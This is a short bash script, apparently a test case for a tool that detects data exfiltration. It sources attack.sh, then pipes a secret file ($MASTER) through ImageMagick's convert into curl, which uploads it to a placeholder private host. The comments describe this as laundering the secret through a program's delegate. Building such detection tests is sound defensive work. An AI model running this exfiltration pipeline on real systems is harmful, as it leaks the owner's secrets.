#!/usr/bin/env bash
# technique: the named program hands the master to curl through one of its own delegates
# hooks: socket_connect, file_open
# sink: private-tcp
# innocent: 400

. attack.sh
convert-im6.q16 "$MASTER" jpg:- | timeout 6 curl -sS -m 5 -o /dev/null -T - "http://$PRIVATE_HOST:$PORT_TCP/$here"
